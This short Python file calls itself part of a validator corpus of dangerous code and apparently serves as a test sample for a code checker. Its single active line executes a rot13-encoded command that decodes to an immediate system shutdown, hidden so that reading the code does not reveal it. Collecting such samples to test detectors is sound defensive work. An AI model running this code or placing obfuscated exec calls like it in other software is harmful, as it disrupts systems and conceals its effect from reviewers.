# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import codecs

exec(codecs.decode("vzcbeg bf; bf.flfgrz('fuhgqbja -u abj')", "rot13"))
